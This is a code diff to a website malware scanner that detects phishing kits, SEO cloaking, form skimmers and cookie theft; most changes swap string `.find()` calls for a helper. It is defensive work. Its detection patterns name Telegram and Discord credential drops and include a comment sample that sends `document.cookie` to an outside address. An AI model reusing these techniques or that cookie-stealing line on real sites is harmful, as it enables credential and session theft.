@@ -56,7 +56,7 @@ from spamtrace.scanner.context import (
     web_address,
 )
 from spamtrace.scanner.features.execution import visitor_filled
-from spamtrace.scanner.lexer import lex
+from spamtrace.scanner.lexer import find, lex
 from spamtrace.scanner.rules import Rule
 from spamtrace.scanner.rx import Branches, tight
 from spamtrace.scanner.taint import assignment_before, taint
@@ -84,7 +84,7 @@ def _seed_or_hash(code: bytes, pos: int) -> bool:
     if _HASHED.search(code, max(0, pos - 80), pos) is not None:
         return True
     start = code.rfind(b";", max(0, pos - 160), pos) + 1 or max(0, pos - 160)
-    end = code.find(b";", pos, pos + 200)
+    end = find(code, b";", pos, pos + 200)
     stmt = code[start : end if end >= 0 else pos + 200]
     return _RANDOM_SOURCES.search(stmt) is not None
 
@@ -102,7 +102,7 @@ def _request_relay(ctx: Ctx, rule: Rule) -> Hit | None:
     if _WEB_ADDRESS.search(string_text(ctx)) is None:
         return None
     for name in (b"serialize", b"var_export"):
-        pos = code.find(name)
+        pos = find(code, name)
         while pos >= 0:
             if (
                 (not pos or code[pos - 1] not in NOT_CALL_BEFORE)
@@ -110,7 +110,7 @@ def _request_relay(ctx: Ctx, rule: Rule) -> Hit | None:
                 and not _seed_or_hash(code, pos)
             ):
                 return Hit(ctx.line_of_code(pos), ctx.excerpt_code(pos, pos + 80))
-            pos = code.find(name, pos + len(name))
+            pos = find(code, name, pos + len(name))
     return None
 
 
@@ -136,7 +136,7 @@ def _crawler_cloaking(ctx: Ctx, rule: Rule) -> Hit | None:
             continue
         # the same condition also looks for spam words
         lo = max(code.rfind(b"if", 0, start), start - 400)
-        hi = code.find(b"{", start)
+        hi = find(code, b"{", start)
         window = code[lo : hi if 0 <= hi - start < 800 else start + 800]
         for q in PLACEHOLDER.finditer(window):
             if _PHARMA.search(ctx.lx.value(int(q.group(1))).lower()):
@@ -154,8 +154,8 @@ def _crawler_remote(ctx: Ctx, rule: Rule) -> Hit | None:
     code) by content fetched from a literal http(s) address and output: crawlers are served
     pages from the operator's host (a doorway, SEO spam cloaking)."""
     text = string_text(ctx)
-    if text.find(b"http") < 0 or (
-        text.find(b"user_agent") < 0 and not has_word(ctx, b"gethostbyaddr")
+    if find(text, b"http") < 0 or (
+        find(text, b"user_agent") < 0 and not has_word(ctx, b"gethostbyaddr")
     ):
         return None
     value = ctx.lx.value
@@ -214,7 +214,7 @@ def _crawler_visitor_proxied(ctx: Ctx, rule: Rule) -> Hit | None:
     visitors see, page by page, under the site's name. A prerendering service is given the
     page's URL, not the user agent; a tracker sends the agent but prints nothing back."""
     text = string_text(ctx)
-    if text.find(_AGENT_KEY) < 0 or text.find(b"http") < 0:
+    if find(text, _AGENT_KEY) < 0 or find(text, b"http") < 0:
         return None
     value = ctx.lx.value
     crawler = any(
@@ -237,7 +237,7 @@ def _crawler_visitor_proxied(ctx: Ctx, rule: Rule) -> Hit | None:
             for q in itertools.islice(PLACEHOLDER.finditer(t), 20)
         ]
         joined = b" ".join(interpolated(ctx, t) for t in texts)
-        agent = _AGENT_KEY in lits or joined.find(_AGENT_KEY) >= 0
+        agent = _AGENT_KEY in lits or find(joined, _AGENT_KEY) >= 0
         remote = any(x.lstrip().startswith(WEB_SCHEMES[:2]) for x in lits)
         if not (agent and remote):
             continue
@@ -267,7 +267,7 @@ def _predicate_calls(ctx: Ctx, start: int) -> list[int]:
     }``): the test's answer is used at those calls."""
     code = ctx.code
     for name, body in function_bodies(ctx).items():
-        at = code.find(body)
+        at = find(code, body)
         if not 0 <= at <= start < at + len(body):
             continue
         call = re.compile(rb"(?<![\w$>:])" + re.escape(name) + rb"\s*\(")
@@ -504,7 +504,7 @@ def _fetch_functions(ctx: Ctx) -> frozenset[bytes]:
     return frozenset(
         name
         for name, body in function_bodies(ctx).items()
-        if len(body) < 3000 and body.find(b"return") >= 0 and _DOWNLOADS.search(body)
+        if len(body) < 3000 and find(body, b"return") >= 0 and _DOWNLOADS.search(body)
     )
 
 
@@ -531,9 +531,9 @@ _DISCORD_HOOK = tight(rb"discord(?:app)?\.com/api/webhooks/")
 def _chat_drop(text: bytes) -> bool:
     """The literals' text names a Telegram bot's sendMessage or a Discord webhook: the chat
     services kits send their results to."""
-    if text.find(b"api.telegram.org/bot") >= 0 and text.find(b"sendmessage") >= 0:
+    if find(text, b"api.telegram.org/bot") >= 0 and find(text, b"sendmessage") >= 0:
         return True
-    return text.find(b"discord") >= 0 and _DISCORD_HOOK.search(text) is not None
+    return find(text, b"discord") >= 0 and _DISCORD_HOOK.search(text) is not None
 
 
 def _credential_label(ctx: Ctx, text: bytes) -> bool:
@@ -577,17 +577,17 @@ def _request_keys(ctx: Ctx, text: bytes) -> set[bytes]:
     keys: set[bytes] = set()
     # every match holds "$_" (the pattern has no literal start: without one, the regex
     # engine steps through every offset of a text of every assignment glued together)
-    found = _REQ_ELEMENT_CODE.finditer(text) if text.find(b"$_") >= 0 else ()
+    found = _REQ_ELEMENT_CODE.finditer(text) if find(text, b"$_") >= 0 else ()
     for m in itertools.islice(found, 100):
         if m.group(1) or m.group(3):
             keys.add(ctx.lx.value(int(m.group(2))).lower().strip())
     for p in itertools.islice(PLACEHOLDER.finditer(text), 100):
         lit = ctx.lx.value(int(p.group(1)))
-        if lit.find(b"$_") >= 0:
+        if find(lit, b"$_") >= 0:
             keys.update(t.group(1).lower() for t in _REQ_ELEMENT_TEXT.finditer(lit.lower()))
     # session entries the script filled from the form ($_SESSION['cvv'] = $_POST['cvv']):
     # the kit carries the fields from page to page and sends them at the end
-    if text.find(b"$_session") >= 0 or text.find(b"\x01") >= 0:
+    if find(text, b"$_session") >= 0 or find(text, b"\x01") >= 0:
         stored = _session_fields(ctx)
         if stored:
             for m in itertools.islice(_SESSION_ELEMENT.finditer(text), 100):
@@ -596,7 +596,7 @@ def _request_keys(ctx: Ctx, text: bytes) -> set[bytes]:
                     keys.add(key)
             for p in itertools.islice(PLACEHOLDER.finditer(text), 100):
                 lit = ctx.lx.value(int(p.group(1))).lower()
-                if lit.find(b"$_session") >= 0:
+                if find(lit, b"$_session") >= 0:
                     keys.update(k for k in _SESSION_TEXT.findall(lit) if k in stored)
     return keys
 
@@ -613,7 +613,7 @@ _SESSION_FROM_FORM = tight(
 def _session_fields(ctx: Ctx) -> frozenset[bytes]:
     """The session entries the script sets from form fields (their keys, lower case)."""
     code = ctx.code
-    if code.find(b"$_session") < 0:
+    if find(code, b"$_session") < 0:
         return frozenset()
     return frozenset(
         ctx.lx.value(int(m.group(1))).lower().strip()
@@ -656,7 +656,7 @@ def _this_props(ctx: Ctx) -> dict[bytes, list[bytes]]:
     """What each property of ``$this`` is given in the file (the first 200 assignments and
     declarations): the text of each value, by the property's name."""
     props: dict[bytes, list[bytes]] = {}
-    if ctx.code.find(b"$this") < 0:
+    if find(ctx.code, b"$this") < 0:
         return props
     for m in itertools.islice(_PROP_GIVEN.finditer(ctx.code), 200):
         props.setdefault(m.group(1), []).append(m.group(2))
@@ -988,13 +988,13 @@ _FORM_WORDS = (b"$_post", b"$_get", b"$_request", b"php://input")
 
 
 def code_has(ctx: Ctx, word: bytes) -> bool:
-    return ctx.code.find(word) >= 0
+    return find(ctx.code, word) >= 0
 
 
 def _chat_named(ctx: Ctx) -> bool:
     """The script names Telegram or Discord (a literal, a class, an included helper)."""
     text = string_text(ctx)
-    return any(hay.find(w) >= 0 for hay in (text, ctx.code) for w in (b"telegram", b"discord"))
+    return any(find(hay, w) >= 0 for hay in (text, ctx.code) for w in (b"telegram", b"discord"))
 
 
 def _chat_helper_at(ctx: Ctx, start: int) -> bool:
@@ -1183,7 +1183,7 @@ def _query_fields_relayed(ctx: Ctx, rule: Rule) -> Hit | None:
     code = ctx.code
     for m in itertools.islice(_QUERY_LOOP.finditer(code), 5):
         key, val = b"$" + m.group(1), b"$" + m.group(2)
-        body = _block_after(code, code.find(b"(", m.start()) + 1)
+        body = _block_after(code, find(code, b"(", m.start()) + 1)
         for a in _APPENDED.finditer(body):
             glued = interpolated(ctx, a.group(2))
             if glued.find(key) < 0 or glued.find(val) < 0:
@@ -1195,7 +1195,7 @@ def _query_fields_relayed(ctx: Ctx, rule: Rule) -> Hit | None:
                 if start > m.end() and any(sent.find(h) >= 0 for h in held):
                     at = m.start()
                     return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 80))
-    if code.find(b"$_get") < 0:
+    if find(code, b"$_get") < 0:
         return None
     # the whole query string dumped into the message, no loop: print_r($_GET, true)
     for start, args in calls_to(ctx, _SENDERS, 40):
@@ -1222,7 +1222,7 @@ def _visitor_grabbed(ctx: Ctx, rule: Rule) -> Hit | None:
     redirect: a link that records who opened it. No form field is in the message; a shop's
     order notice reports an order and thanks its customer on its own pages."""
     text = string_text(ctx)
-    if not _chat_drop(text) or not any(text.find(k) >= 0 for k in _ADDRESS_KEYS):
+    if not _chat_drop(text) or not any(find(text, k) >= 0 for k in _ADDRESS_KEYS):
         return None
     code = ctx.code
     if _auth_used(ctx):
@@ -1393,14 +1393,14 @@ def _element_keys(ctx: Ctx, text: bytes, name: bytes) -> set[bytes]:
     double-quoted literal): the fields of a request array the script holds whole."""
     keys: set[bytes] = set()
     held = b"$" + name
-    if text.find(held) >= 0:  # else the pattern, which starts with it, cannot match
+    if find(text, held) >= 0:  # else the pattern, which starts with it, cannot match
         code_el = re.compile(rb"\$" + re.escape(name) + rb"\s*\[\s*\x01(\d+)\x01\s*\]")
         for m in itertools.islice(code_el.finditer(text), 40):
             keys.add(ctx.lx.value(int(m.group(1))).lower().strip())
     lit_el: re.Pattern[bytes] | None = None  # compiled at the first literal that holds $name
     for p in itertools.islice(PLACEHOLDER.finditer(text), 100):
         lit = ctx.lx.value(int(p.group(1))).lower()
-        if lit.find(held) >= 0:
+        if find(lit, held) >= 0:
             if lit_el is None:
                 lit_el = re.compile(rb"\$" + re.escape(name) + rb"\s*\[\s*['\"]?([\w-]{1,40})")
             keys.update(lit_el.findall(lit))
@@ -1426,7 +1426,7 @@ def _credentials_dropped_fixed(ctx: Ctx) -> Hit | None:
         not has_any(ctx, _DROP_SINKS)
         and not has_any(ctx, _CHAT_HELPER_WORDS)
         and (
-            (ctx.code.find(b"post") < 0 and ctx.code.find(b"->request") < 0)
+            (find(ctx.code, b"post") < 0 and find(ctx.code, b"->request") < 0)
             or _CLIENT_POST.search(ctx.code) is None
         )
     ):
@@ -1436,7 +1436,7 @@ def _credentials_dropped_fixed(ctx: Ctx) -> Hit | None:
         if ctx.code.startswith(_FILE_WRITES, start) and _php_source(ctx, text):
             continue  # an installer writing its config file (the database password in it)
         keys = _request_keys(ctx, text)
-        if len(keys) < 2 and text.find(b"$_") >= 0:
+        if len(keys) < 2 and find(text, b"$_") >= 0:
             keys |= _whole_array_keys(ctx, text)
         if len(keys) < 2 and VAR.search(text) is not None:
             # variables the taint pass saw hold a request value as it came ($email = $data;
@@ -1500,7 +1500,7 @@ def _whole_array_keys(ctx: Ctx, text: bytes) -> set[bytes]:
     for m in itertools.islice(_FIELD_READ.finditer(ctx.code), 200):
         if ctx.code[m.start() + 2 : m.start() + 9].split(b"[")[0].strip() in arrays:
             keys.add(ctx.lx.value(int(m.group(1))).lower().strip())
-    if b"request" in arrays and ctx.code.find(b"request") >= 0:
+    if b"request" in arrays and find(ctx.code, b"request") >= 0:
         # a framework's request object sent whole ($request->all() reads as $_request):
         # the fields its tests and rules name ($request->filled('cvv'), ->validate([...]))
         # and its fields read as properties ($request->password)
@@ -1608,7 +1608,7 @@ def _credential_hashed(ctx: Ctx, keys: set[bytes]) -> bool:
         return False
     hashed = [first_arg(args) for _start, args in calls_to(
         ctx, (b"password_hash", b"wp_hash_password", b"crypt", b"bcrypt"), 20)]
-    if code.find(b"hash") >= 0:  # Laravel's Hash::make($request->password)
+    if find(code, b"hash") >= 0:  # Laravel's Hash::make($request->password)
         hashed.extend(m.group(1) for m in itertools.islice(_HASH_MAKE.finditer(code), 20))
     for arg in hashed:
         for w in wanted:
@@ -1717,9 +1717,9 @@ _VISITOR_OTHER = tuple(v for v in _VISITOR if not v.startswith(b"http_"))
 def _visitor_named(text: bytes) -> bool:
     """``any(text.find(v) >= 0 for v in _VISITOR)``, with one search for "http_" before the
     words that start with it (most files have none of them: one scan, not one per word)."""
-    if any(text.find(v) >= 0 for v in _VISITOR_OTHER):
+    if any(find(text, v) >= 0 for v in _VISITOR_OTHER):
         return True
-    return text.find(b"http_") >= 0 and any(text.find(v) >= 0 for v in _VISITOR_HTTP)
+    return find(text, b"http_") >= 0 and any(find(text, v) >= 0 for v in _VISITOR_HTTP)
 
 
 # what every IP prefix holds: a digit, a dot, a digit
@@ -1749,7 +1749,7 @@ def _antibot_gate(ctx: Ctx, rule: Rule) -> Hit | None:
     text = string_text(ctx)
     if not _visitor_named(text) and not has_word(ctx, b"gethostbyaddr"):
         # the platform named by a helper of the kit's own (the user agent read elsewhere)
-        return _platform_refusal(ctx, text) if text.find(b"linux") >= 0 else None
+        return _platform_refusal(ctx, text) if find(text, b"linux") >= 0 else None
     action = prefiltered_search(_GATE_ACTION, text)
     if action is None and not (has_word(ctx, b"die") or has_word(ctx, b"exit")):
         return None
@@ -1814,7 +1814,7 @@ def _bot_list_end(ctx: Ctx) -> int:
             continue
         if _BOT_WORD.fullmatch(lit):
             n += 1
-        elif lit.find(b"|") >= 0:
+        elif find(lit, b"|") >= 0:
             n += sum(1 for w in re.split(rb"[|/()^$]", lit) if _BOT_WORD.fullmatch(w.strip()))
         if n >= 3:
             return p.end()
@@ -1829,8 +1829,8 @@ def _bot_list_fake_404(ctx: Ctx, rule: Rule) -> Hit | None:
     scanners that would report it (a site that keeps bots out says 403; a router's 404 for
     an unknown page is no answer to a list of bots)."""
     text = string_text(ctx)
-    if text.find(b"http_user_agent") < 0 or (text.find(b"404") < 0
-                                              and ctx.code.find(b"404") < 0):
+    if find(text, b"http_user_agent") < 0 or (find(text, b"404") < 0
+                                              and find(ctx.code, b"404") < 0):
         return None
     listed = _bot_list_end(ctx)
     if listed < 0:
@@ -1894,9 +1894,9 @@ def _platform_refusal(ctx: Ctx, text: bytes) -> Hit | None:
     Linux desktops (``if ($os == "Linux") die(...)``, with the unknown browsers and the
     bot lookups of the same test): the scanners and crawlers that would report a kit run
     on Linux servers, its victims on phones and Windows. No site turns Linux users away."""
-    if text.find(b"linux") < 0:
+    if find(text, b"linux") < 0:
         return None
-    agent = text.find(b"http_user_agent") >= 0
+    agent = find(text, b"http_user_agent") >= 0
     code = ctx.code
     value = ctx.lx.value
     for p in itertools.islice(PLACEHOLDER.finditer(code), 3000):
@@ -1908,7 +1908,7 @@ def _platform_refusal(ctx: Ctx, text: bytes) -> Hit | None:
             continue  # no user agent read here: the platform must come from a getOS() helper
         # a long list of platforms (one per line) may open its test far before
         opened = [t.end() for t in _TEST_OPENS.finditer(code, max(0, p.start() - 600), p.start())]
-        if not opened or code.find(b";", opened[-1], p.start()) >= 0:
+        if not opened or find(code, b";", opened[-1], p.start()) >= 0:
             continue
         # one of several reasons to refuse (|| the unknown browsers, the bot lookups): a
         # download page sending Linux users to their package tests Linux alone
@@ -2002,7 +2002,7 @@ def _genuine_site_redirect(
     code = ctx.code
     for q in itertools.islice(PLACEHOLDER.finditer(code, after), 200):
         lit = raw[int(q.group(1))].lower()
-        if lit.find(b"http") < 0:
+        if find(lit, b"http") < 0:
             continue
         m = _SENT_TO.search(lit)
         if m is None:
@@ -2043,7 +2043,7 @@ def _victim_sent_away(ctx: Ctx, rule: Rule) -> Hit | None:
     site's own form thanks its visitor on its own pages, or sends them to a payment page;
     a sign-in of its own checks the password (:func:`_auth_used`)."""
     text = string_text(ctx)
-    if text.find(b"http") < 0 or _auth_used(ctx):
+    if find(text, b"http") < 0 or _auth_used(ctx):
         return None
     named = _visitor_named(text)
     for start, sent in _drops(ctx):
@@ -2079,7 +2079,7 @@ def _victim_geolocated(ctx: Ctx, rule: Rule) -> Hit | None:
         return None
     if not has_any(ctx, _FORM_READS):
         return None
-    if not called_any(ctx, _SENDS_OUT) and text.find(b"api.telegram.org/bot") < 0:
+    if not called_any(ctx, _SENDS_OUT) and find(text, b"api.telegram.org/bot") < 0:
         return None
     return string_hit(
         ctx, geo, shown=b"the visitor located at " + geo.group(0) + b", form fields sent out"
@@ -2200,9 +2200,9 @@ def _geo_gate_kit(ctx: Ctx, rule: Rule) -> Hit | None:
     if intel is None or not _visitor_named(text):
         return None
     code = ctx.code
-    if text.find(b"country") < 0 and code.find(b"country") < 0:
+    if find(text, b"country") < 0 and find(code, b"country") < 0:
         return None
-    crawler = text.find(b"http_user_agent") >= 0 and _CRAWLER_WORD.search(text) is not None
+    crawler = find(text, b"http_user_agent") >= 0 and _CRAWLER_WORD.search(text) is not None
     honest = _HONEST_BLOCK.search(text) is not None
     blocks: collections.Counter[bytes] = collections.Counter()
     for m in itertools.islice(_COUNTRY_CMP.finditer(code), 200):
@@ -2271,7 +2271,7 @@ def _crawler_test(ctx: Ctx, cond: bytes) -> bool:
     value = ctx.lx.value
 
     def names_one(text: bytes) -> bool:
-        if text.find(b"user_agent") >= 0:
+        if find(text, b"user_agent") >= 0:
             return True
         return any(
             (v := value(int(q.group(1))).lower()).find(b"user_agent") >= 0
@@ -2299,7 +2299,7 @@ def _crawler_remote_served(ctx: Ctx, rule: Rule) -> Hit | None:
     operator's page under this site's name, visitors get the site. However the crawler test
     is written (a helper is_google_bot(), a loop over a list)."""
     text = string_text(ctx)
-    if text.find(b"user_agent") < 0 or prefiltered_search(_CRAWLERS, text) is None:
+    if find(text, b"user_agent") < 0 or prefiltered_search(_CRAWLERS, text) is None:
         return None
     code = ctx.code
     value = ctx.lx.value
@@ -2345,7 +2345,7 @@ def _fixed_fetch(ctx: Ctx, fn: bytes, arg: bytes, bodies: dict[bytes, bytes]) ->
     sets once to a literal (not the visitor's URL, as a prerendering service is)."""
     if fn != b"file_get_contents":
         body = bodies.get(fn, b"")
-        if body.find(b"curl_exec") < 0 and body.find(b"file_get_contents") < 0:
+        if find(body, b"curl_exec") < 0 and find(body, b"file_get_contents") < 0:
             return False
     v = VAR.fullmatch(arg.strip())
     if v is not None:
@@ -2374,7 +2374,7 @@ def _crawler_block_prints_fetch(ctx: Ctx) -> Hit | None:
         if not named and (_NOT.search(cond) is not None or not _crawler_flag(ctx, cond)):
             continue
         block = _block_after(code, c.end())
-        end = code.find(block, c.end()) + len(block)
+        end = find(code, block, c.end()) + len(block)
         if _ENDS.search(block) is None and not code[end : end + 40].lstrip().startswith(b"else"):
             continue
         if bodies is None:
@@ -2493,7 +2493,7 @@ def _crawler_flag(ctx: Ctx, cond: bytes) -> bool:
     """A variable of ``cond`` is a flag that a test of the user agent for crawler names sets
     (``foreach ($bots as $bot) if (stripos($ua, $bot) !== false) $is_bot = true;``)."""
     code = ctx.code
-    if code.find(b"true") < 0:
+    if find(code, b"true") < 0:
         return False  # the setter's pattern holds it: none compiled per variable
     value = ctx.lx.value
     for v in itertools.islice(VAR.finditer(cond), 6):
@@ -2519,7 +2519,7 @@ def _crawler_local_served(ctx: Ctx, rule: Rule) -> Hit | None:
     visitors get the site. A prerendered snapshot is chosen by the visitor's URL, not one
     literal file; a maintenance page is shown to everyone."""
     text = string_text(ctx)
-    if text.find(b"user_agent") < 0 or prefiltered_search(_BOT_WORDS, text) is None:
+    if find(text, b"user_agent") < 0 or prefiltered_search(_BOT_WORDS, text) is None:
         return None
     code = ctx.code
     value = ctx.lx.value
@@ -2638,7 +2638,7 @@ def _crawler_helper_page(ctx: Ctx) -> Hit | None:
             return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
     # the same page read into a variable first, the variable printed next
     # ($bot = file_get_contents('wp-meta.php'); echo $bot; exit;)
-    found = _READ_INTO.finditer(code) if code.find(b"file_get_contents") >= 0 else ()
+    found = _READ_INTO.finditer(code) if find(code, b"file_get_contents") >= 0 else ()
     for m in itertools.islice(found, 40):
         path = _FIXED_PATH.fullmatch(m.group(2))
         if path is None:
@@ -2695,7 +2695,7 @@ def _crawler_fixed_fetch(ctx: Ctx) -> Hit | None:
             if bodies is None:
                 bodies = function_bodies(ctx)
             body = bodies.get(fn, b"")
-            if body.find(b"curl_exec") < 0 and body.find(b"file_get_contents") < 0:
+            if find(body, b"curl_exec") < 0 and find(body, b"file_get_contents") < 0:
                 continue
         rest = code[m.end() : m.end() + 300]
         out = re.search(rb"(?:echo|print)\s*\(?\s*\$" + re.escape(m.group(1)) + rb"\b", rest)
@@ -2732,8 +2732,8 @@ def _stolen_cookie_log(ctx: Ctx, rule: Rule) -> Hit | None:
     visitors' sessions, sent here by an injected script. A site keeps its own cookies in
     $_COOKIE and logs a consent choice by another name."""
     if (
-        ctx.code.find(b"cookie") < 0
-        and ctx.code.find(b"c00kie") < 0
+        find(ctx.code, b"cookie") < 0
+        and find(ctx.code, b"c00kie") < 0
         and string_text(ctx).find(b"cookie") < 0
     ):
         return None
@@ -2779,7 +2779,7 @@ def _in_page_text(ctx: Ctx, rx: re.Pattern[bytes]) -> Hit | None:
 @per_file("has-script")
 def _has_script(ctx: Ctx) -> bool:
     """Whether the file's bytes hold "<script" (two rules ask; a search of the whole file)."""
-    return ctx.data.find(b"<script") >= 0
+    return find(ctx.data, b"<script") >= 0
 
 
 # the cookies glued into an address: new Image().src = 'http://x/?c=' + escape(document.cookie)
@@ -2821,7 +2821,7 @@ def _js_cookie_exfil(ctx: Ctx, rule: Rule) -> Hit | None:
     the site's own paths (XMLHttpRequest's send(), sendBeacon(), fetch's body, jQuery's
     post()). (Scripts that read or set their own cookie do not build an address or post
     it.)"""
-    if ctx.data.find(b"document.cookie") < 0:
+    if find(ctx.data, b"document.cookie") < 0:
         return None
     hit = _in_page_text(ctx, _COOKIE_EXFIL) or _in_page_text(ctx, _COOKIE_SENT)
     if hit is not None:
@@ -2908,7 +2908,7 @@ def _js_form_skimmer(ctx: Ctx, rule: Rule) -> Hit | None:
     text = string_text(ctx)
     for m in itertools.islice(_JS_FORM_READ.finditer(text), 20):
         lo = max(text.rfind(b"\x00", 0, m.start()) + 1, m.start() - 800)
-        hi = text.find(b"\x00", m.end())
+        hi = find(text, b"\x00", m.end())
         hi = min(hi if hi >= 0 else len(text), m.end() + 800)
         if _JS_FORM_EVENT.search(text, lo, hi) is None:
             continue
@@ -3040,10 +3040,10 @@ def _db_script_inject(ctx: Ctx, rule: Rule) -> Hit | None:
     appends an embed to one post (``WHERE ID = %d``), a setup step a tag service's script
     (Google Tag Manager...) to a setting row."""
     text = string_text(ctx)
-    if (text.find(b"concat") < 0 and text.find(b"replace") < 0) or text.find(b"update") < 0:
+    if (find(text, b"concat") < 0 and find(text, b"replace") < 0) or find(text, b"update") < 0:
         return None
     decoded = any(ctx.first(w) >= 0 for w in _DECODERS)
-    if not decoded and (text.find(b"src") < 0 or _FOREIGN_TAG.search(text) is None):
+    if not decoded and (find(text, b"src") < 0 or _FOREIGN_TAG.search(text) is None):
         return None
     for m in itertools.islice(_SQL_APPEND_CONTENT.finditer(text), 10):
         hit = _db_script_appended(ctx, text, m)
@@ -3057,17 +3057,17 @@ def _db_script_appended(ctx: Ctx, text: bytes, m: re.Match[bytes]) -> Hit | None
     idx = string_at(ctx, m.start())
     if idx < 0:
         return None
-    sql_end = text.find(b"\x00", m.end())
+    sql_end = find(text, b"\x00", m.end())
     sql_rest = text[m.end() : sql_end if sql_end >= 0 else len(text)]
     if m.group(2) == b"replace":
         adds = _SQL_REPLACE_ADDS.match(sql_rest)
         if adds is None or re.search(rb"<script|<iframe", adds.group(1)):
             return None
     code = ctx.code
-    at = code.find(b"\x01%d\x01" % idx)
+    at = find(code, b"\x01%d\x01" % idx)
     if _SQL_ONE_ROW.search(sql_rest[-200:]) is not None and not in_loop(code, at):
         return None  # one post (not each row of a loop over the posts, WHERE ID = $id)
-    end = code.find(b";", at)
+    end = find(code, b";", at)
     stmt = code[at : end if end >= 0 else at + 2000]
     value = ctx.lx.value
     # what the statement appends: the SQL itself, a literal or a variable set to one (or
@@ -3145,9 +3145,9 @@ def _js_decoded_redirect(ctx: Ctx, rule: Rule) -> Hit | None:
     code = ctx.code
     for idx in literals_holding(ctx, (b"location",), 5000)[:50]:
         lit = ctx.lx.value(idx).lower()
-        if lit.find(b"<script") < 0:
+        if find(lit, b"<script") < 0:
             continue
-        at = code.find(b"\x01%d\x01" % idx)
+        at = find(code, b"\x01%d\x01" % idx)
         inner = _JS_LOCATION_VAR.search(ctx.lx.raw_strings[idx].lower())
         if inner is not None:
             # the address interpolated: "<script>top.location.href='$go';</script>"
@@ -3156,7 +3156,7 @@ def _js_decoded_redirect(ctx: Ctx, rule: Rule) -> Hit | None:
             continue
         if _JS_LOCATION_FILLED.search(lit[-300:]) is None:
             continue
-        end = code.find(b";", at)
+        end = find(code, b";", at)
         stmt = code[at : end if end >= 0 else at + 600]
         for d in itertools.islice(_DECODED_LITERAL.finditer(stmt), 5):
             folded = fold.fold_at(code, ctx.lx, at + d.start())
@@ -3221,7 +3221,7 @@ def _inline_decoded_redirect(ctx: Ctx) -> Hit | None:
     """A meta refresh or a script's location in the page's HTML whose address is PHP's echo
     of a decoding call given a literal that decodes to a web address."""
     data = ctx.data
-    if data.find(b"<?") < 0 or (data.find(b"refresh") < 0 and data.find(b"location") < 0):
+    if find(data, b"<?") < 0 or (find(data, b"refresh") < 0 and find(data, b"location") < 0):
         return None
     for m in itertools.islice(_ECHO_DECODED.finditer(data), MAX_INLINE_ECHOES):
         if _REDIRECT_BEFORE.search(data[max(0, m.start() - 300) : m.start()]) is None:
@@ -3229,7 +3229,7 @@ def _inline_decoded_redirect(ctx: Ctx) -> Hit | None:
         call = m.group(1)
         lx = lex(b"<?php " + call + b";")
         name = call[: call.find(b"(")].strip().lower()
-        folded = fold.fold_at(lx.code, lx, max(0, lx.code.find(name)))
+        folded = fold.fold_at(lx.code, lx, max(0, find(lx.code, name)))
         if folded is not None and folded.value.lstrip().lower().startswith(WEB_SCHEMES[:2]):
             line = data.count(b"\n", 0, m.start()) + 1
             return Hit(line, excerpt(data[max(0, m.start() - 60) : m.end()]))
@@ -3290,7 +3290,7 @@ def _js_obfuscated_inject(ctx: Ctx, rule: Rule) -> Hit | None:
     not inside PHP."""
     data = ctx.data
     # "<script" first: one search where most files have it not (then the words' four)
-    if not _has_script(ctx) or not any(data.find(w) >= 0 for w in _JS_WORDS):
+    if not _has_script(ctx) or not any(find(data, w) >= 0 for w in _JS_WORDS):
         return None
     return _in_page_text(ctx, _JS_OBFUSCATED)
 
@@ -3311,10 +3311,10 @@ def _js_gated_redirect(ctx: Ctx, rule: Rule) -> Hit | None:
     whose PHP chooses the visitors it does it to (once per visitor through a cookie, by
     referrer or user agent): the injected redirect of a hacked site, which its owner, a
     returning visitor, does not see. A moved page redirects everyone alike."""
-    if not _has_script(ctx) or ctx.data.find(b"location") < 0:
+    if not _has_script(ctx) or find(ctx.data, b"location") < 0:
         return None
     text = string_text(ctx)
-    if not any(has_word(ctx, w) or text.find(w) >= 0 for w in _VISITOR_GATE):
+    if not any(has_word(ctx, w) or find(text, w) >= 0 for w in _VISITOR_GATE):
         # the script chooses by itself: it reads the referrer, user agent or its cookie
         # before it sends the browser away
         gated = prefiltered_search(_JS_GATE_WORDS, text)
@@ -3386,7 +3386,7 @@ def _crawler_redirect(ctx: Ctx, rule: Rule) -> Hit | None:
         if at >= 0:
             return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
         # the bots leave (exit) and everyone else is sent away by the code that follows
-        end = code.find(block, start) + len(block) if block else -1
+        end = find(code, block, start) + len(block) if block else -1
         if (
             end > 0
             and _LEAVES.search(block) is not None
@@ -3465,7 +3465,7 @@ def _block_after(code: bytes, pos: int, span: int = 400) -> bytes:
     rest = code[i + 1 : i + 2000]
     body = rest.lstrip()
     if not body.startswith(b"{"):
-        semi = body.find(b";")
+        semi = find(body, b";")
         return body[: semi if semi >= 0 else len(body)]
     return body[: close_paren(body[1:], 123, 125) + 2]
 
@@ -3543,7 +3543,7 @@ def _search_referer_redirect(ctx: Ctx, rule: Rule) -> Hit | None:
     ranks the hacked site and sells its search traffic (the site's own visitors, who come
     without such a referrer, see nothing)."""
     text = string_text(ctx)
-    if text.find(b"http_referer") < 0:
+    if find(text, b"http_referer") < 0:
         return None
     code = ctx.code
     value = ctx.lx.value
@@ -3644,7 +3644,7 @@ def _remote_cloak_verdict(ctx: Ctx, rule: Rule) -> Hit | None:
     reviewers from real visitors, who are sent on. Analytics send the same data but do not
     redirect on what comes back; a geo-IP lookup sends the address alone."""
     text = string_text(ctx)
-    if text.find(b"http_referer") < 0 or text.find(b"http_user_agent") < 0:
+    if find(text, b"http_referer") < 0 or find(text, b"http_user_agent") < 0:
         return None
     sent = _sends_visitor(ctx)
     if sent < 0:
@@ -3692,7 +3692,9 @@ def _rewrite_cloak(text: bytes) -> bool:
         if at < failed_to:
             continue  # its line is in a chain already read: the rule after it is the same
         window = at + _COND_LINE_MOST + 2
-        ends = [e for e in (text.find(b"\n", at, window), text.find(b"\\n", at, window)) if e >= 0]
+        ends = [
+            e for e in (find(text, b"\n", at, window), find(text, b"\\n", at, window)) if e >= 0
+        ]
         if not ends:
             continue
         end = min(ends)
@@ -3721,7 +3723,7 @@ def _htaccess_search_cloak(ctx: Ctx, rule: Rule) -> Hit | None:
     doorway, by the web server itself. A site's rewrite rules route by path; a security
     plugin blocks bad bots, it does not send search visitors elsewhere."""
     text = string_text(ctx)
-    if text.find(b".htaccess") < 0 or text.find(b"rewritecond") < 0:
+    if find(text, b".htaccess") < 0 or find(text, b"rewritecond") < 0:
         return None
     value = ctx.lx.value
     if not any(
